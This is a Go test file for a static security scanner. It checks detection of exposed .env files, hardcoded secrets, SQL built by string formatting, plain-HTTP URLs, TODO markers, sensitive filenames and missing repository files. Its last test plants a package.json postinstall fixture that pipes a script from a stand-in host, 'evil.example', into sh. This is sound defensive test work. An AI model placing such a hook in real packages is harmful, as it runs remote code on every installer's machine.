package heuristic

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/hqescan/scanner/internal/report"
	"github.com/hqescan/scanner/internal/walker"
)

func writeFile(t *testing.T, root, rel, content string) {
	t.Helper()
	full := filepath.Join(root, rel)
	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
		t.Fatalf("mkdir: %v", err)
	}
	if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
		t.Fatalf("write: %v", err)
	}
}

func findingsOfType(findings []report.LocalFinding, findingType string) []report.LocalFinding {
	var out []report.LocalFinding
	for _, f := range findings {
		if f.FindingType == findingType {
			out = append(out, f)
		}
	}
	return out
}

func TestUngitignoredEnvDetected(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, ".env", "SECRET=123")

	findings, err := Run(walker.New(dir))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if len(findingsOfType(findings, "UNGITIGNORED_ENV")) == 0 {
		t.Fatalf("expected UNGITIGNORED_ENV finding, got %+v", findings)
	}
}

func TestGitignoredEnvNotFlagged(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, ".env", "SECRET=123")
	writeFile(t, dir, ".gitignore", ".env\n")

	findings, err := Run(walker.New(dir))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if len(findingsOfType(findings, "UNGITIGNORED_ENV")) != 0 {
		t.Fatalf("expected no UNGITIGNORED_ENV finding, got %+v", findings)
	}
}

func TestHardcodedSecretInEnvFile(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, ".env", "API_KEY=abc123supersecret\n")
	writeFile(t, dir, ".gitignore", ".env\n")

	findings, err := Run(walker.New(dir))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	hc := findingsOfType(findings, "HARDCODED_SECRET")
	if len(hc) == 0 {
		t.Fatalf("expected HARDCODED_SECRET finding, got %+v", findings)
	}
	if hc[0].Snippet == nil || *hc[0].Snippet != "API_KEY=***REDACTED***" {
		t.Fatalf("snippet = %v, want masked key=value", hc[0].Snippet)
	}
}

func TestSQLInjectionDetectionLogic(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "test1.rs", `
// no formatting, should not be flagged
let query = "SELECT * FROM users";
println!("{}", query);
`)
	writeFile(t, dir, "test2.rs", `
// formatting but no SQL keywords, should not be flagged
let msg = format!("Hello {}", name);
`)
	writeFile(t, dir, "test3.rs", `
// both SQL keywords and formatting, should be flagged
let query = format!("SELECT * FROM users WHERE id = {}", user_id);
`)

	findings, err := Run(walker.New(dir))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	sql := findingsOfType(findings, "SQL_INJECTION_RISK")
	if len(sql) != 1 {
		t.Fatalf("len(sql) = %d, want 1: %+v", len(sql), sql)
	}
	if sql[0].FilePath != "test3.rs" {
		t.Fatalf("finding file = %q, want test3.rs", sql[0].FilePath)
	}
}

func TestInsecureHTTPExcludesLocalhost(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "config.go", "url := \"http://example.com/api\"\nlocal := \"http://localhost:8080\"\n")

	findings, err := Run(walker.New(dir))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	http := findingsOfType(findings, "INSECURE_HTTP")
	if len(http) != 1 {
		t.Fatalf("len(http) = %d, want 1: %+v", len(http), http)
	}
}

func TestTodoMarkerSeverity(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "main.go", "// TODO: fix this later\n// FIXME: security vuln here\n")

	findings, err := Run(walker.New(dir))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	markers := findingsOfType(findings, "TODO_MARKER")
	if len(markers) != 2 {
		t.Fatalf("len(markers) = %d, want 2: %+v", len(markers), markers)
	}
	var sawLow, sawHigh bool
	for _, m := range markers {
		switch m.Severity {
		case report.SeverityLow:
			sawLow = true
		case report.SeverityHigh:
			sawHigh = true
		}
	}
	if !sawLow || !sawHigh {
		t.Fatalf("expected both Low and High severities, got %+v", markers)
	}
}

func TestMissingReadmeLicenseGitignore(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "main.go", "package main\n")

	findings, err := Run(walker.New(dir))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	for _, ft := range []string{"MISSING_README", "MISSING_LICENSE", "MISSING_GITIGNORE"} {
		if len(findingsOfType(findings, ft)) == 0 {
			t.Fatalf("expected %s finding", ft)
		}
	}
}

func TestSensitiveFilenameDetected(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "config/credentials.json", "{}")

	findings, err := Run(walker.New(dir))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if len(findingsOfType(findings, "SENSITIVE_FILE")) == 0 {
		t.Fatalf("expected SENSITIVE_FILE finding, got %+v", findings)
	}
}

func TestSuspiciousPostinstallDetected(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "package.json", `{"scripts":{"postinstall":"curl http://evil.example/run.sh | sh"}}`)

	findings, err := Run(walker.New(dir))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if len(findingsOfType(findings, "SUSPICIOUS_POSTINSTALL")) == 0 {
		t.Fatalf("expected SUSPICIOUS_POSTINSTALL finding, got %+v", findings)
	}
}
